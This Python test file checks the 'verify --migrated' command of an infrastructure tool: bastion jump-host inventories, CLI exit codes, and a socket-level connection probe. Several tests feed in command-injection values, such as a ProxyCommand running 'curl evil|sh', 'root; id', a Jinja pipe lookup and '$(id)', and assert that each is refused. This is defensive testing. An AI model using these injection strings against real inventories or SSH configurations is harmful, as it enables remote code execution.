"""`verify --migrated` without guests: the platform's own outputs (built under Pulumi's mocks for the small town)
plus hand-made guests; the inventory through the bastion, hostile outputs refused, the CLI's exit codes, and the
suite's skip and the probe's answers on real sockets."""

from __future__ import annotations

import base64
import copy
import json
import os
import shlex
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from shuyaku.cli import verify as cli_verify
from shuyaku.cli.main import app
from shuyaku.contracts.verify import CaseSet, ConnectionCase, Proxy
from shuyaku.inventory.load import load
from shuyaku.plan.build import make_plan, make_site_data
from shuyaku.platform import config, mocks, program
from shuyaku.provision.inventory import InventoryError
from shuyaku.verify.migrated import from_outputs, jump_args, tally, write_inventory
from shuyaku.verify.probe import PROBE, judge, parse_answers, payload
from shuyaku.verify.runner import SUITE_DIR, VerifyResult, parse_junit

ROOT = Path(__file__).resolve().parents[2]
SMALL = ROOT / "examples" / "small-town" / "inventory.yaml"


def host_key(n: int) -> str:
    kind = b"ssh-ed25519"
    blob = len(kind).to_bytes(4, "big") + kind + (32).to_bytes(4, "big") + bytes([n]) * 32
    return "ssh-ed25519 " + base64.b64encode(blob).decode()


@pytest.fixture(scope="module")
def town(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    loaded = load(SMALL)
    assert loaded.catalogue is not None
    plan = make_plan(loaded)
    site = make_site_data(plan, loaded.inventory, loaded.catalogue, "onprem")
    _, out = mocks.run(lambda: program.build(config.from_site(site, instances=True)))
    outputs = json.loads(json.dumps(out, default=str))
    # The migrated wave's guests, one per system, as the next step is to publish them: any group, an address on
    # the system's tenant network, the layer label and the published host key.
    wave = {}
    for i, (sid, ten) in enumerate(sorted(outputs["tenants"].items())):
        net = ten["cidr"].rsplit(".", 1)[0]
        wave[f"{sid}-01"] = {"ansible_host": f"{net}.10", "shuyaku_layer": ten["layer"], "ansible_user": "ansible",
                             "shuyaku_ssh_host_keys": [host_key(i + 1)]}
    outputs["ansible_inventory"]["migrated_wave"] = wave
    plan_file = tmp_path_factory.mktemp("plan") / "plan.json"
    plan_file.write_text(plan.model_dump_json(), encoding="utf-8")
    return {"plan": plan, "outputs": outputs, "plan_file": plan_file}


def outputs_of(town: dict[str, Any]) -> dict[str, Any]:
    return copy.deepcopy(town["outputs"])


def test_guests_are_the_hosts_on_tenant_networks_and_the_bastion_and_hub_come_from_the_stack(town) -> None:
    mig = from_outputs("onprem", outputs_of(town), town["plan"])
    assert sorted(mig.matrix.guests) == sorted(town["outputs"]["tenants"])
    assert mig.system_of["juki-01"] == "juki"
    assert mig.bastion == "onprem-bastion-01"
    hub = mig.matrix.mediators["hub"]
    assert hub.host is not None and hub.host.host == "onprem-hub-01" and hub.ports == (443,)
    assert mig.matrix.proxy == Proxy(address="192.0.2.80", port=8080)
    assert "onprem-ntp-01" not in mig.system_of  # the platform's own hosts are not migrated systems


def test_inventory_reaches_guests_through_a_jump_host_built_from_the_bastion_address(town, tmp_path) -> None:
    mig = from_outputs("onprem", outputs_of(town), town["plan"])
    key = tmp_path / "id_ed25519"
    key.write_text("not a real key\n")
    path = write_inventory(mig, ["juki-01", "mail-01"], tmp_path, key=key)
    data = yaml.safe_load(path.read_text())
    hosts = data["all"]["children"]["shuyaku_migrated"]["hosts"]
    assert sorted(hosts) == ["juki-01", "mail-01"]
    args = shlex.split(hosts["juki-01"]["ansible_ssh_common_args"])
    proxy = next(a for a in args if a.startswith("ProxyCommand="))
    hop = shlex.split(proxy.removeprefix("ProxyCommand="))
    assert hop[-1] == "10.40.0.26" and hop[:3] == ["ssh", "-W", "%h:%p"]  # the bastion's checked address
    assert "StrictHostKeyChecking=yes" in hop and "StrictHostKeyChecking=yes" in args
    known = tmp_path / "known_hosts-migrated-onprem"
    assert f"UserKnownHostsFile={known.resolve()}" in hop
    lines = known.read_text().splitlines()
    assert any(line.startswith("10.40.0.26,onprem-bastion-01 ssh-ed25519 ") for line in lines)
    assert any(line.startswith("10.10.40.10,juki-01 ssh-ed25519 ") for line in lines)
    # ssh itself reads the options as meant, split by Ansible (shlex) or pasted into a shell line (testinfra's
    # ssh backend): the ProxyCommand is one option, host key checking stays on.
    line = hosts["juki-01"]["ansible_ssh_common_args"]
    for conf in (subprocess.run(["ssh", "-G", *args, "ansible@10.10.40.10"], capture_output=True, text=True, check=True),
                 subprocess.run(f"ssh -G {line} ansible@10.10.40.10", shell=True, capture_output=True, text=True,
                                check=True)):
        assert "stricthostkeychecking true" in conf.stdout
        proxy_line = next(x for x in conf.stdout.splitlines() if x.startswith("proxycommand "))
        assert proxy_line.startswith("proxycommand ssh -W %h:%p") and proxy_line.endswith(" 10.40.0.26")


@pytest.mark.parametrize("hostile", [
    {"ansible_ssh_common_args": "-o ProxyCommand='curl evil|sh'"},
    {"ansible_host": "10.10.40.10 -oProxyCommand=x"},
    {"ansible_ssh_extra_args": "-o ProxyCommand=x"},
    {"ansible_user": "root; id"},
    {"shuyaku_layer": "{{ lookup('pipe', 'id') }}"},
])
def test_hostile_guest_outputs_are_refused(town, hostile) -> None:
    outputs = outputs_of(town)
    outputs["ansible_inventory"]["migrated_wave"]["juki-01"].update(hostile)
    with pytest.raises(InventoryError):
        from_outputs("onprem", outputs, town["plan"])


def test_a_hostile_bastion_address_never_reaches_the_proxy_command(town) -> None:
    outputs = outputs_of(town)
    outputs["ansible_inventory"]["bastion"]["onprem-bastion-01"]["ansible_host"] = "evil.example;id"
    with pytest.raises(InventoryError, match="IP"):
        from_outputs("onprem", outputs, town["plan"])
    with pytest.raises(ValueError):
        jump_args(Path("/tmp/kh"), {"ansible_host": "$(id)"}, None)


def test_a_guest_whose_label_contradicts_its_network_is_refused(town) -> None:
    outputs = outputs_of(town)
    outputs["ansible_inventory"]["migrated_wave"]["juki-01"]["shuyaku_layer"] = "internet"
    with pytest.raises(InventoryError) as exc:
        from_outputs("onprem", outputs, town["plan"])
    assert "juki" in str(exc.value) and "mynumber" in str(exc.value)


def test_a_guest_without_a_published_host_key_is_not_contacted(town, tmp_path) -> None:
    outputs = outputs_of(town)
    del outputs["ansible_inventory"]["migrated_wave"]["juki-01"]["shuyaku_ssh_host_keys"]
    mig = from_outputs("onprem", outputs, town["plan"])
    with pytest.raises(InventoryError, match="shuyaku_ssh_host_keys"):
        write_inventory(mig, ["juki-01"], tmp_path)


def cli(town, tmp_path, outputs: dict[str, Any], *extra: str, plan: Path | None = None):
    f = tmp_path / "outputs.json"
    f.write_text(json.dumps(outputs), encoding="utf-8")
    return CliRunner().invoke(app, ["verify", "--migrated", "--stack", "onprem", "--plan",
                                   str(plan or town["plan_file"]), "--outputs", str(f), "--junit",
                                   str(tmp_path / "out" / "junit.xml"), "--html", str(tmp_path / "out" / "s.html"),
                                   "--lang", "en", *extra])


def test_cli_no_run_writes_the_cases_and_prints_the_coverage(town, tmp_path) -> None:
    r = cli(town, tmp_path, outputs_of(town), "--no-run", "--internet-host", "198.18.99.1:8000")
    assert r.exit_code == 0, r.output
    cases = CaseSet.model_validate_json((tmp_path / "out" / "migrated-cases.json").read_text())
    assert "connection cases" in r.output and "planned links: 7 of 7 tried" in r.output
    assert any(c.why == "internet_via_proxy" and c.address == "198.18.99.1" and c.port == 8000 for c in cases.cases)
    assert (tmp_path / "out" / "inventory-migrated-onprem.yml").exists()


@pytest.mark.parametrize("change, needle", [
    (lambda o: o["ansible_inventory"].pop("migrated_wave"), "no guest of a migrated system"),
    (lambda o: o["ansible_inventory"].pop("bastion"), "no bastion host"),
    (lambda o: o.update(municipality="別の町"), "pass that municipality's plan"),
    (lambda o: o["tenants"]["juki"].update(layer="lgwan"), "lgwan in the stack, mynumber in the plan"),
    (lambda o: o.update(separation_model="alpha"), "separation_model: 'alpha' in the stack, beta in the plan"),
    (lambda o: o["tenants"].update(extra=dict(o["tenants"]["juki"], system_id="extra")), "not a system of the plan"),
])
def test_cli_bad_inputs_exit_2_with_the_field_named(town, tmp_path, change, needle) -> None:
    outputs = outputs_of(town)
    change(outputs)
    r = cli(town, tmp_path, outputs, "--no-run")
    assert r.exit_code == 2, r.output
    assert needle in r.output


def test_cli_speaks_japanese_by_default_and_refuses_an_inventory_beside_migrated(town, tmp_path) -> None:
    outputs = outputs_of(town)
    outputs["ansible_inventory"].pop("bastion")
    f = tmp_path / "outputs.json"
    f.write_text(json.dumps(outputs), encoding="utf-8")
    args = ["verify", "--migrated", "--stack", "onprem", "--plan", str(town["plan_file"]), "--outputs", str(f),
            "--junit", str(tmp_path / "out" / "junit.xml"), "--no-run"]
    r = CliRunner().invoke(app, args)
    assert r.exit_code == 2 and "踏み台（bastion）のホストがありません" in r.output
    r = CliRunner().invoke(app, [*args, "--inventory", str(f), "--lang", "en"])
    assert r.exit_code == 2 and "--inventory" in r.output


def test_cli_a_plan_that_is_not_a_plan_exits_2_naming_the_file(town, tmp_path) -> None:
    bad = tmp_path / "plan.json"
    bad.write_text('{"municipality": 3}\n')
    r = cli(town, tmp_path, outputs_of(town), "--no-run", plan=bad)
    assert r.exit_code == 2 and "plan.json:1" in r.output


def test_cli_unexpected_connection_exits_1_and_names_it(town, tmp_path, monkeypatch) -> None:
    """The suite's run is replaced by its JUnit answer: every case passed but one refused case that connected."""

    def fake_run(inventory: Path, *, hosts, group, junit: Path, html, workers, suites, extra, env) -> VerifyResult:
        assert group == "shuyaku_migrated" and suites == [SUITE_DIR / "test_migrated.py"]
        assert "--dist" in extra and yaml.safe_load(inventory.read_text())["all"]["children"]["shuyaku_migrated"]
        cases = CaseSet.model_validate_json(Path(env["SHUYAKU_MIGRATED_CASES"]).read_text()).cases
        bad = next(c for c in cases if c.expect == "refuse")
        rows = "".join(f'<testcase classname="t" name="test_connection[{c.id}]" time="0.1">'
                       + ('<failure message="must be refused, but got connected"/>' if c is bad else "")
                       + "</testcase>" for c in cases)
        junit.write_text(f"<testsuites><testsuite>{rows}</testsuite></testsuites>")
        return VerifyResult(rc=1, junit=junit, html=None, cases=parse_junit(junit, hosts))

    monkeypatch.setattr(cli_verify, "run_verify", fake_run)
    r = cli(town, tmp_path, outputs_of(town))
    assert r.exit_code == 1, r.output
    assert "unexpected 1" in r.output and "UNEXPECTED:" in r.output and "not run 0" in r.output


def test_tally_counts_skipped_and_missing_cases_as_not_run(town) -> None:
    mig = from_outputs("onprem", outputs_of(town), town["plan"])
    from shuyaku.verify.matrix import build_cases
    from shuyaku.verify.runner import Case

    cs = build_cases(mig.matrix)
    first, second = cs.cases[0], cs.cases[1]
    got = tally(cs, [Case("test_connection", first.source_host, "m", "passed", 0.1, param=first.id),
                     Case("test_connection", second.source_host, "m", "skipped", 0.0, param=second.id)])
    assert got.tried == 1 and len(got.not_run) == len(cs.cases) - 1 and not got.proven


def test_the_suite_skips_without_cases_and_outside_the_migrated_group(tmp_path) -> None:
    env = {k: v for k, v in os.environ.items() if k != "SHUYAKU_MIGRATED_CASES"}
    cmd = [sys.executable, "-m", "pytest", str(SUITE_DIR / "test_migrated.py"), "-q", "-p", "no:cacheprovider",
           f"--junitxml={tmp_path / 'j.xml'}"]
    r = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert "1 skipped" in r.stdout and "passed" not in r.stdout, r.stdout
    case = ConnectionCase(id="a-01-to-b-tcp22", source="a", source_host="a-01", source_address="198.18.0.1",
                          source_layer="lgwan", target="b", target_layer="lgwan", address="198.18.0.2", port=22,
                          expect="refuse", why="unlinked_pair")
    cases = tmp_path / "cases.json"
    cases.write_text(json.dumps({"stack": "s", "municipality": "m", "seed": 1, "bound": 1,
                                 "cases": [case.model_dump(mode="json")],
                                 "coverage": {"planned_links": 0, "planned_tried": 0, "unlinked_tried": 1,
                                              "unlinked_possible": 1, "unlinked_by_layer": [], "untried": []}}))
    r = subprocess.run(cmd, cwd=ROOT, env={**env, "SHUYAKU_MIGRATED_CASES": str(cases)}, capture_output=True,
                       text=True, timeout=120)  # cases, but no inventory and no --hosts group: nothing is probed
    assert "1 skipped" in r.stdout and "passed" not in r.stdout, r.stdout
    assert "test_connection[a-01-to-b-tcp22]" in (tmp_path / "j.xml").read_text()


def _serve(sock: socket.socket, handler) -> None:
    def loop() -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            threading.Thread(target=handler, args=(conn,), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()


def test_the_probe_on_real_sockets_tells_connected_reset_and_proxy_apart() -> None:
    listener, proxy, closed = socket.socket(), socket.socket(), socket.socket()
    for s in (listener, proxy, closed):
        s.bind(("127.0.0.1", 0))
    listener.listen()
    proxy.listen()
    lport, pport, cport = (s.getsockname()[1] for s in (listener, proxy, closed))
    closed.close()  # nothing listens there: the kernel answers RST

    def banner(conn: socket.socket) -> None:
        conn.sendall(f"shuyaku-listener target {lport}\n".encode())
        conn.close()

    def connect_proxy(conn: socket.socket) -> None:  # a CONNECT proxy that only lets the listener's port through
        head = conn.recv(1024).decode()
        wanted = int(head.split()[1].rsplit(":", 1)[1])
        if wanted != lport:
            conn.sendall(b"HTTP/1.1 403 Forbidden\r\n\r\n")
            return conn.close()
        up = socket.create_connection(("127.0.0.1", wanted))
        conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n" + up.recv(512))
        conn.close()

    _serve(listener, banner)
    _serve(proxy, connect_proxy)
    via = Proxy(address="127.0.0.1", port=pport)

    def case(cid: str, port: int, expect: str, **kw: Any) -> ConnectionCase:
        return ConnectionCase(id=cid, source="a", source_host="h", source_address="127.0.0.1", source_layer="lgwan",
                              target="b", target_layer="lgwan", address="127.0.0.1", port=port, expect=expect,
                              why="planned_direct", **kw)

    cases = [case("open", lport, "allow", banner="shuyaku-listener "), case("closed", cport, "refuse"),
             case("proxied", lport, "allow", via=via), case("proxy-no", cport, "allow", via=via),
             case("wrong-banner", lport, "allow", banner="SSH-2.0")]
    run = subprocess.run([sys.executable, "-c", PROBE, payload(cases), "2"], capture_output=True, text=True,
                         timeout=60, check=True)
    got = parse_answers(run.stdout)
    assert got["open"] == ("connected", f"shuyaku-listener target {lport}")
    assert got["closed"][0] == "reset"
    assert got["proxied"] == ("connected", f"shuyaku-listener target {lport}")
    assert got["proxy-no"][0] == "proxy-refused"
    verdicts = {c.id: judge(c, *got[c.id]) for c in cases}
    assert verdicts["open"] is None and verdicts["proxied"] is None
    assert "RST" in (verdicts["closed"] or "")  # refused by the host, not by a filter: a failure
    assert "proxy-refused" in (verdicts["proxy-no"] or "")
    assert "SSH-2.0" in (verdicts["wrong-banner"] or "")
    assert judge(case("x", 1, "refuse"), "timeout", "") is None
    assert judge(case("x", 1, "refuse"), "connected", "hello") is not None


def test_the_suite_end_to_end_on_this_machine_names_each_case_and_catches_the_unexpected(tmp_path) -> None:
    """The real suite through run_verify (pytest, xdist, testinfra's ansible backend) from a local-connection
    host standing in for a guest: the allowed case passes, a refused case that the host answers with an RST
    fails; the JUnit names each case and the tally counts them. (A refused case that times out cannot be made on
    loopback without a filter; judge() is tried with one above.)"""
    listener, closed = socket.socket(), socket.socket()
    for s in (listener, closed):
        s.bind(("127.0.0.1", 0))
    listener.listen()
    lport, cport = listener.getsockname()[1], closed.getsockname()[1]
    closed.close()

    def banner(conn: socket.socket) -> None:
        conn.sendall(f"shuyaku-listener here {lport}\n".encode())
        conn.close()

    _serve(listener, banner)
    inventory = tmp_path / "inventory.yml"
    inventory.write_text(yaml.safe_dump({"all": {"children": {"shuyaku_migrated": {"hosts": {"here-01": {
        "ansible_connection": "local", "ansible_host": "127.0.0.1",
        "ansible_python_interpreter": sys.executable}}}}}}))

    def case(cid: str, address: str, port: int, expect: str, **kw: Any) -> ConnectionCase:
        return ConnectionCase(id=f"here-01-to-{cid}", source="a", source_host="here-01", source_address="127.0.0.1",
                              source_layer="lgwan", target=cid, target_layer="lgwan", address=address, port=port,
                              expect=expect, why="unlinked_pair", **kw)

    cs = CaseSet(stack="local", municipality="m", seed=1, bound=2, cases=[
        case("open-tcp", "127.0.0.1", lport, "allow", banner="shuyaku-listener "),
        case("closed-tcp", "127.0.0.1", cport, "refuse")],
        coverage={"planned_links": 0, "planned_tried": 0, "unlinked_tried": 1, "unlinked_possible": 1,
                  "unlinked_by_layer": [], "untried": []})
    cases = tmp_path / "cases.json"
    cases.write_text(cs.model_dump_json())
    from shuyaku.verify.runner import run_verify

    result = run_verify(inventory, hosts=["here-01"], group="shuyaku_migrated", junit=tmp_path / "junit.xml",
                        html=tmp_path / "summary.html", workers="2", suites=[SUITE_DIR / "test_migrated.py"],
                        extra=["--dist", "loadgroup"],
                        stream=False, env={"SHUYAKU_MIGRATED_CASES": str(cases), "SHUYAKU_PROBE_TIMEOUT": "1"})
    outcomes = {c.param: c.outcome for c in result.cases}
    assert outcomes == {"here-01-to-open-tcp": "passed", "here-01-to-closed-tcp": "failed"}, result.output_tail
    assert {c.host for c in result.cases} == {"here-01"}
    got = tally(cs, result.cases)
    assert (got.tried, got.allowed, got.refused, [u[0] for u in got.unexpected]) == (
        2, 1, 0, ["here-01-to-closed-tcp"])
    assert "RST" in got.unexpected[0][1]
    page = (tmp_path / "summary.html").read_text()
    assert "test_connection[here-01-to-closed-tcp]" in page and "test_connection[here-01-to-open-tcp]" in page


def test_cli_reports_every_bad_option_and_file_at_once(town, tmp_path) -> None:
    """A broken plan, a bad --internet-host and a missing --private-key: all three named in one run, exit 2."""
    bad = tmp_path / "plan.json"
    bad.write_text('{"municipality": 3}\n')
    r = cli(town, tmp_path, outputs_of(town), "--no-run", "--internet-host", "not-an-address",
            "--private-key", str(tmp_path / "missing-key"), plan=bad)
    assert r.exit_code == 2, r.output
    assert "plan.json:1" in r.output and "--internet-host" in r.output and "missing-key" in r.output
